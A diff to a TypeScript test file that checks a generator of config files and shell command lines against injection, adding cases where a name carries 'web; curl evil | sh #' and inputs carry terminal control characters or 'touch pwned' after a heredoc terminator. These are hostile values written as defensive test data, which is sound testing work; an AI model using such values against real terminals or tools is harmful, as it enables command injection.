@@ -65,6 +65,15 @@ describe("a test file", () => {
     expect(Object.keys((load(await fileOf(state)) as { objects: object }).objects)).toEqual(["tenant", "secret-shop-tls-1"]);
   });
 
+  test.each(["web; curl evil | sh #", "web\nconfig: {}"])("names no command that a name of %j has put in", async (name) => {
+    const { host: _host, ...unedited } = edited;
+    const file = await fileOf({ ...unedited, tenant: `{ apiVersion: v1, kind: Endpoints, metadata: { name: ${JSON.stringify(name)} } }` });
+    expect(file?.split("\n").slice(0, 2)).toEqual([
+      "# Run it: npx endpoint-sync test example.patch-test.yaml",
+      expect.stringMatching(/^apiVersion: /),
+    ]);
+  });
+
   test("is not made while there is nothing to expect", async () => {
     const broken = { ...edited, config: "sync: [" };
     expect(testFileOf(broken, await evaluate(broken))).toBeUndefined();
@@ -81,13 +90,25 @@ test("a command line writes the settings too, where there are some", () => {
   expect(commandLineOf({ ...state, settings: " \n" })).not.toContain("settings");
 });
 
+test.each([
+  ["a key that deletes, which makes an end of the text", "EOFx\u007f\ntouch pwned"],
+  ["a key that ends the command, in a comment", "# \u0003"],
+  ["the end of what is pasted", "# \u001b[201~"],
+  ["a character that shells leave out", "E\u0000OF"],
+  ["a control character of eight bits", "# \u009b201~"],
+])("a command line is not made of %s: a terminal would obey it", (_, text) => {
+  const state = { config: "a: 1\n", tenant: "b: 2\n", settings: "c:\t3\n" };
+  expect(commandLineOf(state)).toContain("c:\t3");
+  for (const name of ["config", "tenant", "settings"]) expect(commandLineOf({ ...state, [name]: text })).toBeUndefined();
+});
+
 test("a command line writes the very texts, whatever is in them, and renders them", () => {
   const folder = mkdtempSync(join(tmpdir(), "playground-shell-"));
   const bin = join(folder, "npx");
   const config = "# $(exit 1) `x` 'y'\nEOF\n";
   try {
     writeFileSync(bin, '#!/bin/sh\necho "$@"\n', { mode: 0o755 });
-    const script = commandLineOf({ config, tenant: "a: 1", vcluster: { name: "it's", namespace: "b" } });
+    const script = commandLineOf({ config, tenant: "a: 1", vcluster: { name: "it's", namespace: "b" } })!;
     const said = execFileSync("sh", ["-euc", script], { cwd: folder, encoding: "utf8", env: { PATH: `${folder}:${process.env["PATH"]}` } });
     expect(readFileSync(join(folder, "vcluster.yaml"), "utf8")).toBe(config);
     expect(readFileSync(join(folder, "tenant.yaml"), "utf8")).toBe("a: 1\n");
